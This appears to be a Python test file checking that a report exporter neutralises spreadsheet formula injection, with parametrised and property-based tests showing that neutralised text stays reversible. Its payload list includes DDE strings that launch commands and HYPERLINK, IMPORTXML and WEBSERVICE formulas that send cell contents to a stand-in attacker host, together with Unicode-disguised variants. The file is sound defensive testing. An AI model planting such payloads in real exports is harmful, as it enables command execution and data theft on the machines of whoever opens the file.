"""No text becomes a formula, and each can be had back."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reportgen.publishing.exports import cells
from reportgen.publishing.exports.cells import make_inert
from reportgen.publishing.text import clean

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tx",
    "\nx",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\u3164=1+1",
    "\ufe0f=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe621",
    "\ufe631",
    "\ufe661",
    "\ufe6ba",
    "\u22121+1",
    '"=1+1"',
    "'=1+1",
    "' =1",
    " \"'=1",
    "=",
    "-",
]
INSIDE = ["a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a;  +1", 'a;"=1"', "a;\u200b@x", "a\n\n-b", ";;=1"]
HARMLESS = ["", "5 - 3 = 2", "a=b", "mail@host", "1+1", "a, -1", "x\ny", "O'Brien", "''", "a;b", "–", "#1", "*a*", "%"]
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
PASSED_OVER = ' \u00a0\u3000\u200b\u2060\u00ad\u3164\ufe0f"'


def begins_formula(text: str) -> bool:
    return text.lstrip(PASSED_OVER)[:1] in [*SIGNS]


def undo(text: str) -> str:
    """As the documentation says: one apostrophe goes from where it makes something inert."""
    sign = f"{cells._SKIPPED}[{cells._SIGNS}]"
    return re.sub(rf"^'(?=[\t\n]|{sign})|(?<=[;\t\n])'(?={sign})", "", text)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_a_formula_stands_behind_an_apostrophe(text):
    assert make_inert(text)[0] in "'["
    assert make_inert(f"word {text.strip()}") == clean(f"word {text.strip()}")


@pytest.mark.parametrize("text", INSIDE)
def test_no_formula_begins_where_another_separator_is_taken_for_the_end_of_a_cell(text):
    inert = make_inert(text)
    assert inert != clean(text)
    assert not any(begins_formula(part) for part in re.split(r"[;\t\n]", inert))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert make_inert(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *INSIDE, *HARMLESS])
def test_the_text_can_be_had_back(text):
    assert undo(make_inert(text)) == clean(text)


letters = st.one_of(st.sampled_from([*SIGNS, *PASSED_OVER, *";\t\n\r'a,1"]), st.characters(exclude_categories=["Cs"]))


@given(st.text(letters))
def test_any_text_is_inert_and_can_be_had_back(text):
    inert = make_inert(text)
    assert undo(inert) == clean(text)
    assert not any(begins_formula(part) for part in re.split(r"[;\t\n]", inert))
    assert not inert.startswith(("\t", "\n", "\r"))


def test_long_text_of_separators_takes_no_long_time():
    for text in (";" * 200_000, " " * 200_000, "\n'" * 100_000, ";" + " " * 200_000 + "x"):
        assert make_inert(text)
